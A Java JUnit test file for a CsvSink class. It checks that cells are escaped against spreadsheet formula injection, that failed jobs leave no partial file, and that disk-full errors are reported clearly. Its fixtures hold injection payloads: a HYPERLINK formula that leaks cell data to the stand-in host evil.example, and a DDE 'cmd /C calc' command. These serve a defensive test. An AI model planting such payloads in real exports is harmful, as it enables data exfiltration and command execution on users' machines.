package org.framing.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.spark.sql.Row;
import org.apache.spark.sql.RowFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CsvSinkTest {

  private static final List<String> HEADER = List.of("title", "compound", "n", "outlet");
  private static final List<Row> ROWS = List.of(
      RowFactory.create("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", -0.5, -3L, "+cmd|' /C calc'!A0"),
      RowFactory.create("-2+3", 0.25, 7L, "@SUM(1+1)"),
      RowFactory.create("\t=1+1", -1e-7, 0L, "Plain, with a comma"),
      RowFactory.create("", null, 1L, "it's = fine inside"));

  @Test
  void excelSafePrefixesTextCellsThatSpreadsheetsWouldRunAndLeavesNumbersAlone(@TempDir Path tmp) throws IOException {
    Path file = tmp.resolve("safe.csv");
    assertEquals(4, CsvSink.write(file, HEADER, ROWS.iterator(), true));
    assertEquals("title,compound,n,outlet\n"
        + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",-0.5,-3,'+cmd|' /C calc'!A0\n"
        + "'-2+3,0.25,7,'@SUM(1+1)\n"
        + "'\t=1+1,-0.0000001,0,\"Plain, with a comma\"\n"
        + "\"\",,1,it's = fine inside\n", Files.readString(file));
  }

  @Test
  void withoutExcelSafeTextIsWrittenAsItIs(@TempDir Path tmp) throws IOException {
    Path file = tmp.resolve("plain.csv");
    CsvSink.write(file, HEADER, ROWS.iterator());
    assertEquals("title,compound,n,outlet\n"
        + "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",-0.5,-3,+cmd|' /C calc'!A0\n"
        + "-2+3,0.25,7,@SUM(1+1)\n"
        + "\"\t=1+1\",-0.0000001,0,\"Plain, with a comma\"\n"
        + "\"\",,1,it's = fine inside\n", Files.readString(file));
  }
  /** Linux's /dev/full answers every write with ENOSPC, as a full disk does. */
  static final Path FULL = Path.of("/dev/full");

  @Test
  void rowsThatFailToComeLeaveNoPartOfTheFile(@TempDir Path tmp) {
    Path file = tmp.resolve("tfidf.csv");
    java.util.Iterator<Row> failing = new java.util.Iterator<>() {
      private int n;

      @Override
      public boolean hasNext() {
        return true;
      }

      @Override
      public Row next() {
        if (n++ == 2) {
          throw new IllegalStateException("Job aborted due to stage failure");
        }
        return ROWS.get(0);
      }
    };
    assertEquals("Job aborted due to stage failure",
        assertThrows(IllegalStateException.class, () -> CsvSink.write(file, HEADER, failing)).getMessage());
    assertFalse(Files.exists(file));
  }

  @Test
  void aFullDiskIsOneLineNamingTheFileAndWhatToDo() {
    assumeTrue(Files.isWritable(FULL), "no /dev/full on this system");
    DiskFullException e = assertThrows(DiskFullException.class, () -> CsvSink.write(FULL, HEADER, ROWS.iterator()));
    assertEquals("the disk is full: cannot write /dev/full; free space or choose --output on another disk", e.getMessage());
    assertEquals("No space left on device", e.getCause().getMessage());
    // A run writes into a staging folder that it deletes on failure: the line names the file in the target.
    assertEquals("the disk is full: cannot write /work/out/full; free space or choose --output on another disk",
        e.inPlaceOf(Path.of("/dev"), Path.of("/work/out")).getMessage());
  }

  @Test
  void anotherWriteFailureIsNoFullDisk(@TempDir Path tmp) throws IOException {
    Path folder = Files.createDirectory(tmp.resolve("a-folder.csv"));
    java.io.UncheckedIOException e = assertThrows(java.io.UncheckedIOException.class,
        () -> CsvSink.write(folder, HEADER, ROWS.iterator()));
    assertEquals("cannot write " + folder, e.getMessage());
    assertFalse(DiskFullException.isDiskFull(e));
  }
}
